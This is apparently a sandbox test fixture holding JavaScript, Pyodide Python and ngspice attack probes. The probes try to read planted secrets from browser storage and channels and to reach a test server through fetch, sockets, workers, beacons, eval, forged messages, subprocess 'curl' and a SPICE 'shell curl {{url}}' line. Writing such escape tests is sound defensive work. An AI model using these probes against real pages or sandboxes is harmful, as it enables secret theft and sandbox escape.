/**
 * What hostile code tries from inside a node: to read what the page keeps, to reach a server, to step out of its sandbox.
 *
 * Each attack is code of a skill that returns `{probe: what came of it}`; what came of it starts with "read " or "sent " only where
 * the probe believes that it got through. Whether anything was sent is judged by the server, not by the probe.
 */

/** What the page has to lose, and where it is put before the attack. */
export const SECRET = "APP-SECRET-7351";
export const DATABASE = "app-secrets";
export const CHANNEL = "app-channel";
export const CACHE = "app-cache";

/** Every probe that JavaScript has, as statements after `const inputs = {url, port, page}` that fill `results`. */
const JAVASCRIPT_PROBES = String.raw`
  const results = {};
  const within = (promise) => Promise.race([promise, new Promise((_, reject) => setTimeout(() => reject(new Error("no answer")), 1500))]);
  const probe = async (name, attempt) => {
    try {
      results[name] = String(await within(Promise.resolve().then(attempt)));
    } catch (error) {
      results[name] = "blocked: " + (error && error.name ? error.name + ": " + error.message : String(error));
    }
  };
  const scope = globalThis;
  const url = (name) => inputs.url + "/" + name + "?secret=1";

  await probe("indexedDB", () => new Promise((resolve, reject) => {
    const open = scope.indexedDB.open(${JSON.stringify(DATABASE)});
    open.onerror = () => reject(open.error);
    open.onsuccess = () => {
      const get = open.result.transaction("keys").objectStore("keys").get("key");
      get.onsuccess = () => resolve("read " + get.result);
      get.onerror = () => reject(get.error);
    };
  }));
  await probe("localStorage", () => "read " + scope.localStorage.getItem("secret"));
  await probe("cookie", () => "read " + scope.document.cookie);
  await probe("caches", async () => "read " + (await (await (await scope.caches.open(${JSON.stringify(CACHE)})).match(inputs.page + "secret")).text()));
  await probe("opfs", async () => "read " + (await scope.navigator.storage.getDirectory()).name);
  await probe("locks", async () => "read " + JSON.stringify((await scope.navigator.locks.query()).held));
  await probe("broadcastChannel", () => new Promise((resolve) => {
    const channel = new BroadcastChannel(${JSON.stringify(CHANNEL)});
    channel.onmessage = (event) => resolve("read " + event.data);
    channel.postMessage("give me the secret");
  }));
  await probe("parent", () => "read " + scope.parent.document.title);
  await probe("opener", () => "read " + scope.top.location.href);

  await probe("fetch", async () => "sent " + (await fetch(url("fetch"))).status);
  await probe("fetch no-cors", async () => "sent " + (await fetch(url("no-cors"), { mode: "no-cors" })).type);
  await probe("fetch keepalive", async () => "sent " + (await fetch(url("keepalive"), { method: "POST", body: "x", keepalive: true })).status);
  await probe("fetch of the prototype", async () => "sent " + (await Object.getPrototypeOf(Object.getPrototypeOf(scope)).fetch.call(scope, url("prototype"))).status);
  await probe("fetch the page", async () => "sent " + (await fetch(inputs.page + "leak?secret=1")).status);
  await probe("xhr", () => new Promise((resolve, reject) => {
    const request = new XMLHttpRequest();
    request.open("GET", url("xhr"));
    request.onload = () => resolve("sent " + request.status);
    request.onerror = () => reject(new Error("network error"));
    request.send();
  }));
  await probe("xhr, synchronous", () => {
    const request = new XMLHttpRequest();
    request.open("GET", url("sync"), false);
    request.send();
    return "sent " + request.status;
  });
  await probe("webSocket", () => new Promise((resolve, reject) => {
    const socket = new WebSocket(inputs.url.replace("http", "ws") + "/socket");
    socket.onopen = () => resolve("sent");
    socket.onerror = () => reject(new Error("closed"));
  }));
  await probe("webSocketStream", async () => "sent " + (await new WebSocketStream(inputs.url.replace("http", "ws") + "/stream").opened));
  await probe("webTransport", async () => "sent " + (await new WebTransport(inputs.url.replace("http", "https") + "/transport").ready));
  await probe("eventSource", () => new Promise((resolve, reject) => {
    const source = new EventSource(url("events"));
    source.onopen = () => resolve("sent");
    source.onerror = () => reject(new Error("closed"));
  }));
  await probe("sendBeacon", () => "returned " + scope.navigator.sendBeacon(url("beacon"), "x"));
  await probe("import", async () => "sent " + Object.keys(await import(url("import"))));
  await probe("importScripts", () => "sent " + scope.importScripts(url("importScripts")));
  await probe("fontFace", async () => "sent " + (await new FontFace("leak", "url(" + url("font") + ")").load()).status);
  await probe("image", () => { const image = new Image(); image.src = url("image"); return "made"; });
  await probe("rtc", async () => {
    const connection = new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:" + inputs.port }] });
    connection.createDataChannel("x");
    await connection.setLocalDescription(await connection.createOffer());
    return "made";
  });
  await probe("worker of a server", () => new Promise((resolve, reject) => {
    const worker = new Worker(url("worker"));
    worker.onmessage = () => resolve("sent");
    worker.onerror = () => reject(new Error("refused"));
  }));
  for (const [name, address] of [
    ["blob worker", (text) => URL.createObjectURL(new Blob([text]))],
    ["data worker", (text) => "data:text/javascript," + encodeURIComponent(text)],
  ]) {
    await probe(name, () => new Promise((resolve, reject) => {
      const worker = new Worker(address("fetch(" + JSON.stringify(url("nested")) + ").then((r) => postMessage('sent ' + r.status), (e) => postMessage('blocked: ' + e))"));
      worker.onmessage = (event) => resolve(event.data);
      worker.onerror = () => reject(new Error("refused"));
    }));
  }
  await probe("sharedWorker", () => "made " + new SharedWorker(url("shared")));
  await probe("serviceWorker", async () => "sent " + (await scope.navigator.serviceWorker.register(url("service"))).scope);
  await probe("eval", () => "ran " + (0, eval)("1 + 1"));
  await probe("new Function", () => "ran " + new Function("return 1 + 1")());
  await probe("navigation", () => { scope.location.href = url("navigation"); return "set"; });
  await probe("forged reports", () => {
    for (const target of [scope, scope.port, scope.parent]) {
      target?.postMessage?.({ kind: "report", results: [{ job: 1, durationMs: 0, outputs: [], error: null, values: { result: "forged" } }] });
    }
    return "said";
  });
`;

/** A skill's code in JavaScript that runs all probes. */
export const JAVASCRIPT_ATTACK = `async function execute(inputs) {\n${JAVASCRIPT_PROBES}\n  return { results };\n}`;

/** The same for a program that draws a scene; it ends by throwing what got through, since errors are what the page hears of it. */
export const SCENE_ATTACK = `async function execute(inputs, { THREE, scene }) {
${JAVASCRIPT_PROBES}
  const through = Object.fromEntries(Object.entries(results).filter(([, outcome]) => /^(read|sent|ran) /.test(outcome)));
  throw new Error("of " + Object.keys(results).length + " probes got through: " + JSON.stringify(through));
}`;

/** A skill's code in Python that tries what Python can reach, through JavaScript's objects and its own libraries. */
export const PYTHON_ATTACK = String.raw`
import asyncio, js, pyodide.http, pyodide.code

async def execute(inputs):
    results = {}
    url = inputs["url"]

    async def probe(name, attempt):
        try:
            outcome = attempt()
            if hasattr(outcome, "__await__"):
                outcome = await asyncio.wait_for(outcome, 1.5)
            results[name] = str(outcome)
        except BaseException as error:
            results[name] = f"blocked: {type(error).__name__}: {error}"

    async def fetched(promise):
        response = await promise
        return f"sent {response.status}"

    async def database():
        done = asyncio.get_running_loop().create_future()
        request = js.indexedDB.open("${DATABASE}")
        request.onsuccess = lambda event: done.set_result("read " + str(request.result))
        request.onerror = lambda event: done.set_exception(OSError(str(request.error)))
        return await done

    async def channel():
        done = asyncio.get_running_loop().create_future()
        broadcast = js.BroadcastChannel.new("${CHANNEL}")
        broadcast.onmessage = lambda event: done.set_result("read " + event.data)
        broadcast.postMessage("give me the secret")
        return await done

    async def socket():
        done = asyncio.get_running_loop().create_future()
        web_socket = js.WebSocket.new(url.replace("http", "ws") + "/python-socket")
        web_socket.onopen = lambda event: done.set_result("sent")
        web_socket.onerror = lambda event: done.set_exception(OSError("closed"))
        return await done

    def request():
        xhr = js.XMLHttpRequest.new()
        xhr.open("GET", url + "/python-xhr", False)
        xhr.send()
        return f"sent {xhr.status}"

    def urlopen():
        import urllib.request
        return f"sent {urllib.request.urlopen(url + '/urllib', timeout=1).status}"

    def connect():
        import socket as sockets
        connection = sockets.create_connection(("127.0.0.1", inputs["port"]), timeout=1)
        connection.sendall(b"GET /socket HTTP/1.0\r\n\r\n")
        return "made"

    def shell():
        import subprocess
        return "ran " + str(subprocess.run(["curl", url]))

    await probe("indexedDB", database)
    await probe("localStorage", lambda: "read " + js.localStorage.getItem("secret"))
    await probe("caches", lambda: "read " + str(js.caches))
    await probe("broadcastChannel", channel)
    await probe("parent", lambda: "read " + js.parent.document.title)
    await probe("fetch", lambda: fetched(js.fetch(url + "/python-fetch")))
    await probe("fetch of the prototype", lambda: fetched(js.WorkerGlobalScope.prototype.fetch.call(js.self, url + "/python-prototype")))
    await probe("pyfetch", lambda: fetched(pyodide.http.pyfetch(url + "/pyfetch")))
    await probe("open_url", lambda: "sent " + pyodide.http.open_url(url + "/open_url").read())
    await probe("xhr", request)
    await probe("webSocket", socket)
    await probe("urllib", urlopen)
    await probe("socket", connect)
    await probe("subprocess", shell)
    await probe("importScripts", lambda: "sent " + str(js.importScripts(url + "/python-scripts")))
    await probe("run_js", lambda: "ran " + str(pyodide.code.run_js("1 + 1")))
    await probe("files of the machine", lambda: "read " + open("/etc/hostname").read())
    return {"results": results}
`;

/** A deck that tries to leave ngspice: its shell, its files, its includes. */
export const SPICE_ATTACK = `attack
v1 in 0 1
r1 in out 1k
r2 out 0 1k
.op
.control
shell curl {{url}}/shell
source {{url}}/source
load {{url}}/load
wrdata {{url}}/wrdata v(out)
op
.endc
.end
`;
